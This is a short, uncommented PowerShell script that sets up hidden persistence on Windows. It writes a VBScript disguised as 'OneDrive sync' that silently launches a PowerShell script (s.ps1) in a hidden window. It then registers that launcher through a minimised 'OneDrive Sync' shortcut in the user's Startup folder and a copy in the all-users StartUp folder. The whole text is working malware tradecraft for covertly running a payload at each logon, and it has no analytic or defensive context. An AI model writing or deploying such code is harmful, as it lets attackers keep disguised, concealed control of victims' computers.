$startup = [Environment]::GetFolderPath('Startup')
$target = "$env:PUBLIC\Libraries\onedrive_sync.vbs"

Set-Content -Path $target -Value 'CreateObject("WScript.Shell").Run "powershell -w hidden -f C:\Users\Public\Libraries\s.ps1", 0' -Encoding Ascii

$shell = New-Object -ComObject WScript.Shell
$lnk = $shell.CreateShortcut((Join-Path -Path $startup -ChildPath 'OneDrive Sync.lnk'))
$lnk.TargetPath = 'C:\Windows\System32\wscript.exe'
$lnk.Arguments = "`"$target`""
$lnk.WindowStyle = 7
$lnk.Save()

Copy-Item -Path $target -Destination "$env:ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\sync.vbs"
